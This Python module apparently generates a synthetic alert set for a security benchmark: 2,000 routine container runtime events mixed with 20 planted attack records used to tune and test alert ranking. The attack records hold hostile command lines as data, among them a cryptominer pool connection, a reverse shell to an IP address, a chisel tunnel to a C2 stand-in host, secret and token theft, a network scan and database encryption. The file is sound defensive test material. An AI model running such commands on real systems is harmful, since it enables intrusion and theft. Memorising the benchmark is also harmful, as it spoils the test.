"""The planted estate that the priorities were tuned on: 2,000 alerts as estates raise them every day, and 20 attacks.

Each line is as docs/priority.md#how-it-is-tested describes. What counts is another estate, by someone who has not seen
the weights: `python -m bench.ranking FILE`.
"""

from __future__ import annotations

import hashlib
import random
from collections.abc import Callable, Iterator
from typing import Any

Line = dict[str, Any]
CLUSTERS = ("prod-eu-1", "prod-us-1", "prod-us-2", "staging", "ci", "data", "edge", "tools")
SHELL = ("sh", "/bin/sh")
NOISE = 2_000


def lines(seed: int = 17) -> Iterator[Line]:
    """Return the estate's lines, noise and attacks mixed."""
    dice = random.Random(seed)
    noise = [story(dice, number) for number in range(NOISE) for story in [dice.choices(STORIES, WEIGHTS)[0]]]
    planted = noise + [_attack(dice, number, *attack) for number, attack in enumerate(ATTACKS)]
    dice.shuffle(planted)
    yield from planted


def _sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def _line(
    dice: random.Random, path: str, content: str, image: str, owner: str, namespace: str, *,
    kind: str = "new_file", argv: str = "", parent: tuple[str, str] = SHELL, ancestors: tuple[str, ...] = (),
    uid: int = 1000, cluster: str = "", writer: str = "", seconds: float = 2.0, writer_parent: str = "sh",
    outcome: str = "none", size: int = 2_000_000, container: str = "app",
) -> Line:  # fmt: skip
    name = path.rsplit("/", 1)[-1]
    template = f"{dice.getrandbits(36):09x}"
    line: Line = {
        "cluster": cluster or dice.choice(CLUSTERS),
        "node": f"node-{dice.randrange(6)}",
        "minutes_ago": dice.randrange(5, 14_000),
        "event": {
            "kind": kind,
            "outcome": outcome,
            "process": {
                "name": name, "path": path, "argv": (argv or path).split(" "), "cwd": "/", "uid": uid,
                "pid": dice.randrange(100, 90_000), "sha256": _sha(content), "hash_status": "ok", "size": size,
                "parent": {"name": parent[0], "path": parent[1], "pid": 77},
                "ancestors": [{"name": each, "pid": 10 + place} for place, each in enumerate(ancestors)],
            },
            "container": {
                "id": _sha(f"{owner}{template}"), "name": container, "runtime": "containerd", "image_name": image,
                "namespace": namespace, "pod_name": f"{owner}-{template}-{dice.getrandbits(20):05x}",
                "pod_labels": {"pod-template-hash": template}, "owner": {"kind": "Deployment", "name": owner},
            },
        },
    }  # fmt: skip
    if writer:
        line["written"] = {
            "by": writer, "path": f"/usr/bin/{writer}", "parent": writer_parent, "seconds_before": seconds,
        }  # fmt: skip
    return line


def _app(dice: random.Random) -> tuple[str, str, str]:
    """Return (image, owner, namespace) of an application."""
    team = dice.choice(("shop", "billing", "search", "identity", "media", "mail", "fleet", "maps"))
    part = dice.choice(("web", "api", "worker", "cart", "import", "report", "admin", "batch", "feed"))
    return f"registry.corp/{team}/{part}:{dice.randrange(1, 40)}", part, team


def _apt(dice: random.Random, number: int) -> Line:
    tool = dice.choice(
        ("vim.basic", "strace", "less", "jq", "git", "gcc-12", "make", "perl", "rsync", "tcpdump", "htop")
    )
    image, owner, namespace = _app(dice)
    return _line(
        dice, f"/usr/bin/{tool}", f"debian {tool}", image, owner, namespace, uid=0, writer="dpkg",
        writer_parent="apt-get", seconds=dice.uniform(1, 4000), argv=f"{tool} -v", parent=("bash", "/bin/bash"),
    )  # fmt: skip


def _go_build(dice: random.Random, number: int) -> Line:
    return _line(
        dice, f"/tmp/go-build{dice.getrandbits(32)}/b001/exe/main", f"go {number}", "docker.io/library/golang:1.23",
        dice.choice(("runner", "builder")), "ci", cluster="ci", uid=0, parent=("go", "/usr/local/go/bin/go"),
        writer="link", seconds=0.2, writer_parent="go", ancestors=("bash", "runner"),
    )  # fmt: skip


def _go_test(dice: random.Random, number: int) -> Line:
    return _line(
        dice, f"/tmp/go-build{dice.getrandbits(32)}/b{dice.randrange(900):03}/pkg.test", f"go test {number}",
        "docker.io/library/golang:1.23", "runner", "ci", cluster="ci", uid=0, parent=("go", "/usr/local/go/bin/go"),
        argv="pkg.test -test.timeout=10m0s", writer="link", seconds=0.4, writer_parent="go",
    )  # fmt: skip


def _cargo(dice: random.Random, number: int) -> Line:
    crate = dice.choice(("libc", "serde", "ring", "openssl-sys", "proc-macro2", "anyhow"))
    return _line(
        dice, f"/builds/app/target/debug/build/{crate}-{dice.getrandbits(64):016x}/build-script-build", f"rs {number}",
        "docker.io/library/rust:1.82", f"job-{dice.randrange(40)}", "gitlab", cluster="ci", uid=0,
        parent=("cargo", "/usr/local/cargo/bin/cargo"), writer="ld", seconds=0.3, writer_parent="collect2",
    )  # fmt: skip


def _npm(dice: random.Random, number: int) -> Line:
    tool = dice.choice(("@esbuild/linux-x64/bin/esbuild", "esbuild/bin/esbuild", "puppeteer/chrome", "@swc/core/swc"))
    return _line(
        dice, f"/home/node/app{dice.randrange(60)}/node_modules/{tool}", f"npm {tool}", "docker.io/library/node:22",
        dice.choice(("frontend", "storefront", "docs")), dice.choice(("ci", "preview")), writer="node",
        writer_parent="npm", seconds=dice.uniform(1, 90), parent=("node", "/usr/local/bin/node"),
    )  # fmt: skip


def _pip(dice: random.Random, number: int) -> Line:
    tool = dice.choice(("black", "celery", "jupyter", "pytest", "ruff", "uvicorn", "aws", "dbt"))
    return _line(
        dice, f"/opt/venv{dice.randrange(30)}/bin/{tool}", f"pip {tool}", "docker.io/library/python:3.12",
        dice.choice(("notebook", "dag-run", "etl")), "data", cluster="data", kind="script", writer="pip",
        seconds=dice.uniform(1, 3000), parent=("bash", "/bin/bash"),
    )  # fmt: skip


def _jvm_library(dice: random.Random, number: int) -> Line:
    image, owner, namespace = _app(dice)
    library = dice.choice(("libnetty_transport_native_epoll", "snappy-1.1.10-libsnappyjava", "jna", "librocksdbjni"))
    return _line(
        dice, f"/tmp/{library}{dice.getrandbits(40)}.so", f"jar {library}", image, f"{owner}-java", namespace,
        kind="library", writer="java", seconds=0.05, parent=("java", "/opt/java/bin/java"), writer_parent="sh",
    )  # fmt: skip


def _configmap(dice: random.Random, number: int) -> Line:
    image, owner, namespace = _app(dice)
    script = dice.choice(("health.sh", "entrypoint.sh", "backup.sh", "rotate.sh", "wait-for-db.sh"))
    return _line(
        dice, f"/scripts/{script}", f"cm {owner} {script} {dice.randrange(9)}", image, owner, namespace, kind="volume",
        size=900, parent=("sh", "/bin/sh"), argv=f"/bin/sh /scripts/{script}",
    )  # fmt: skip


def _agent(dice: random.Random, number: int) -> Line:
    agent = dice.choice(("datadog-agent", "newrelic-infra", "filebeat", "vector", "falcon-sensor", "otelcol"))
    return _line(
        dice, f"/opt/{agent}/versions/{dice.randrange(3, 8)}.{dice.randrange(20)}/{agent}",
        f"agent {agent} {dice.randrange(3)}", f"registry.corp/ops/{agent}:latest", agent, "monitoring", uid=0,
        writer=f"{agent}-update", seconds=dice.uniform(2, 60), parent=(agent, f"/opt/{agent}/{agent}"),
    )  # fmt: skip


def _cni(dice: random.Random, number: int) -> Line:
    tool = dice.choice(("calico", "loopback", "portmap", "bandwidth", "cilium-cni", "aws-cni"))
    return _line(
        dice, f"/host/opt/cni/bin/{tool}", f"cni {tool}", "quay.io/cni/node:v3", f"cni-{tool}", "kube-system", uid=0,
        kind="volume", writer="install-cni", seconds=dice.uniform(1, 50), parent=("kubelet", "/usr/bin/kubelet"),
    )  # fmt: skip


def _tekton(dice: random.Random, number: int) -> Line:
    return _line(
        dice, f"/tekton/scripts/script-{dice.randrange(9)}-{dice.getrandbits(20):05x}", f"tekton {number}",
        "registry.corp/tools/build:3", dice.choice(("build", "deploy", "scan")), "tekton", cluster="ci", kind="script",
        writer="entrypoint", seconds=1.0, parent=("entrypoint", "/tekton/bin/entrypoint"), size=400,
    )  # fmt: skip


def _terraform(dice: random.Random, number: int) -> Line:
    provider = dice.choice(("aws", "azurerm", "google", "kubernetes", "helm"))
    return _line(
        dice, f"/work/{dice.randrange(50)}/.terraform/providers/registry.terraform.io/terraform-provider-{provider}",
        f"tf {provider} {dice.randrange(3)}", "docker.io/hashicorp/terraform:1.9", "atlantis", "tools",
        cluster="tools", writer="terraform", seconds=dice.uniform(1, 20), parent=("terraform", "/bin/terraform"),
    )  # fmt: skip


def _debug_session(dice: random.Random, number: int) -> Line:
    image, owner, namespace = _app(dice)
    tool = dice.choice(("curl", "grpcurl", "psql", "redis-cli", "dig", "kubectl", "async-profiler"))
    return _line(
        dice, f"/tmp/{tool}", f"download {tool}", image, owner, namespace, uid=dice.choice((0, 1000)),
        writer=dice.choice(("curl", "tar", "wget", "cp")), seconds=dice.uniform(10, 900), writer_parent="bash",
        argv=f"/tmp/{tool} --version", parent=("bash", "/bin/bash"),
    )  # fmt: skip


def _gitlab_runner(dice: random.Random, number: int) -> Line:
    tool = dice.choice(("helm", "kubectl", "kustomize", "trivy", "cosign", "yq", "gh", "terraform"))
    return _line(
        dice, f"/usr/local/bin/{tool}", f"release {tool} {dice.randrange(3)}", "registry.corp/tools/ci:9",
        f"project-{dice.randrange(60)}", "gitlab", cluster="ci", uid=0, writer="curl", seconds=dice.uniform(0.5, 9),
        argv=f"{tool} version", parent=("bash", "/bin/bash"), ancestors=("gitlab-runner-h",),
    )  # fmt: skip


def _generated_entrypoint(dice: random.Random, number: int) -> Line:
    image, owner, namespace = _app(dice)
    return _line(
        dice, dice.choice(("/tmp/start.sh", "/var/run/app/run.sh", "/app/.env.sh")), f"gen {owner}{number % 90}", image,
        owner, namespace, kind="script", writer="sh", seconds=0.4, size=600, parent=("sh", "/bin/sh"),
        argv="/bin/sh /tmp/start.sh", writer_parent="docker-entrypoi",
    )  # fmt: skip


def _browser_driver(dice: random.Random, number: int) -> Line:
    return _line(
        dice, f"/root/.cache/ms-playwright/chromium-{dice.randrange(1100, 1180)}/chrome-linux/chrome", "chromium",
        "mcr.microsoft.com/playwright:v1", dice.choice(("e2e", "smoke")), "qa", uid=0, writer="node",
        seconds=dice.uniform(2, 200), argv="chrome --headless --no-sandbox", parent=("node", "/usr/bin/node"),
    )  # fmt: skip


def _plugin_php(dice: random.Random, number: int) -> Line:
    return _line(
        dice, f"/var/www/html/wp-content/plugins/p{dice.randrange(20)}/cron.php", f"wp {number % 30}",
        "docker.io/library/wordpress:6", f"blog-{dice.randrange(6)}", "web", kind="interpreter", uid=33,
        parent=("apache2", "/usr/sbin/apache2"), argv="php cron.php", writer="apache2", seconds=90_000, size=5_000,
    )  # fmt: skip


def _spark(dice: random.Random, number: int) -> Line:
    return _line(
        dice, f"/tmp/spark-{dice.getrandbits(48):012x}/libhadoop.so", "hadoop native", "docker.io/apache/spark:3.5",
        f"job-{dice.randrange(30)}", "data", cluster="data", kind="library", writer="java", seconds=0.3, uid=185,
        parent=("java", "/opt/java/bin/java"),
    )  # fmt: skip


def _blocked_tool(dice: random.Random, number: int) -> Line:
    image, owner, namespace = _app(dice)
    return _line(
        dice, f"/usr/bin/{dice.choice(('nc.openbsd', 'telnet', 'ftp'))}", "debian nc", image, owner, namespace, uid=0,
        writer="dpkg", writer_parent="apt-get", seconds=30, outcome="blocked", parent=("bash", "/bin/bash"),
    )  # fmt: skip


STORIES: tuple[Callable[[random.Random, int], Line], ...] = (
    _apt, _go_build, _go_test, _cargo, _npm, _pip, _jvm_library, _configmap, _agent, _cni, _tekton, _terraform,
    _debug_session, _gitlab_runner, _generated_entrypoint, _browser_driver, _plugin_php, _spark, _blocked_tool,
)  # fmt: skip
WEIGHTS = (12, 14, 10, 12, 12, 8, 12, 10, 5, 3, 8, 6, 4, 10, 6, 4, 4, 5, 3)
Attack = tuple[str, str, dict[str, Any]]
ATTACKS: tuple[Attack, ...] = (
    ("a miner through a web shell", "/var/tmp/xmrig", {
        "argv": "./xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 44AF -k", "ancestors": ("php-fpm",), "uid": 33,
        "writer": "curl", "seconds": 3}),
    ("a renamed miner", "/dev/shm/.x/kthreadd", {
        "argv": "[kthreadd] -c config.json", "ancestors": ("java",), "writer": "wget", "seconds": 1}),
    ("kinsing in a cache", "/tmp/kinsing", {"parent": ("sh", "/bin/sh"), "ancestors": ("redis-server",),
        "writer": "curl", "seconds": 2, "uid": 999}),
    ("fileless through Python", "/memfd:", {"kind": "fileless", "parent": ("python3", "/usr/bin/python3"),
        "ancestors": ("gunicorn",), "argv": "[kworker/0:1]"}),
    ("a reverse shell of a Java server", "/tmp/.s", {"argv": "/tmp/.s 185.220.101.7 443", "writer": "java",
        "seconds": 0.5, "parent": ("java", "/bin/java")}),
    ("an ELF in an upload folder", "/var/www/html/uploads/a.jpg", {"parent": ("sh", "/bin/sh"), "uid": 33,
        "ancestors": ("apache2",), "writer": "php-fpm", "seconds": 20}),
    ("a replaced sshd", "/usr/sbin/sshd", {"kind": "replaced", "uid": 0, "writer": "cp", "seconds": 9,
        "argv": "/usr/sbin/sshd -D", "parent": ("bash", "/bin/bash")}),
    ("a preloaded rootkit", "/usr/lib/libprocesshider.so", {"kind": "library", "uid": 0, "writer": "gcc",
        "seconds": 30, "parent": ("bash", "/bin/bash"), "writer_parent": "bash"}),
    ("a tunnel by hand", "/tmp/chisel", {"argv": "./chisel client https://c2.example R:socks", "uid": 0,
        "writer": "curl", "seconds": 12, "parent": ("bash", "/bin/bash"), "writer_parent": "bash"}),
    ("a copied shell with another name", "/usr/local/lib/.cache/ssd", {"kind": "copy_of_image_file", "uid": 33,
        "ancestors": ("nginx",), "argv": "ssd -i", "writer": "cp", "seconds": 1}),
    ("a tool on a mount of its own", "/mnt/.t/run", {"kind": "foreign_mount", "uid": 0, "argv": "/mnt/.t/run -d",
        "parent": ("bash", "/bin/bash")}),
    ("a payload through the loader", "/tmp/payload", {"kind": "loader", "ancestors": ("node",),
        "argv": "/lib64/ld-linux-x86-64.so.2 /tmp/payload", "writer": "node", "seconds": 0.4}),
    ("an install script from the net", "/tmp/x.sh", {"kind": "script", "argv": "bash /tmp/x.sh", "writer": "wget",
        "seconds": 1, "ancestors": ("php-fpm",), "uid": 33, "size": 3000}),
    ("an escape tool", "/tmp/cdk", {"argv": "/tmp/cdk run mount-disk", "uid": 0, "writer": "wget", "seconds": 4,
        "ancestors": ("runc",), "parent": ("sh", "/bin/sh")}),
    ("a library that steals secrets", "/srv/app/node_modules/.bin/.sync", {"ancestors": ("node",),
        "parent": ("node", "/usr/local/bin/node"), "writer": "node", "seconds": 2,
        "argv": "/srv/app/node_modules/.bin/.sync /var/run/secrets/kubernetes.io/serviceaccount/token"}),
    ("kubectl in an application", "/tmp/kubectl", {"argv": "/tmp/kubectl get secrets -A", "ancestors": ("java",),
        "writer": "curl", "seconds": 5}),
    ("a scan of the network", "/tmp/masscan", {"argv": "/tmp/masscan 10.0.0.0/8 -p22,6379,2375 --rate 10000", "uid": 0,
        "ancestors": ("redis-server",), "writer": "tar", "seconds": 6}),
    ("ransomware in a database", "/var/lib/postgresql/enc", {"argv": "./enc -r /var/lib/postgresql/data", "uid": 999,
        "ancestors": ("postgres",), "parent": ("sh", "/bin/sh"), "writer": "postgres", "seconds": 3}),
    ("a blocked miner", "/tmp/.ICE-unix/m", {"argv": "./m --donate-level 1 -o 45.9.148.3:80", "outcome": "blocked",
        "ancestors": ("nginx",), "writer": "curl", "seconds": 2}),
    ("a look-alike of a system program", "/usr/local/bin/kube-proxy", {"uid": 0, "argv": "kube-proxy -d 10",
        "writer": "scp", "seconds": 40, "namespace": "kube-system", "parent": ("sh", "/bin/sh")}),
)  # fmt: skip
"""What it is, its path, and what differs from a plain line."""


def _attack(dice: random.Random, number: int, what: str, path: str, changes: dict[str, Any]) -> Line:
    image, owner, team = _app(dice)
    facts = {**changes}
    namespace = facts.pop("namespace", team)
    cluster = dice.choice(CLUSTERS[:3])
    return {"attack": what, **_line(dice, path, f"attack {number}", image, owner, namespace, cluster=cluster, **facts)}
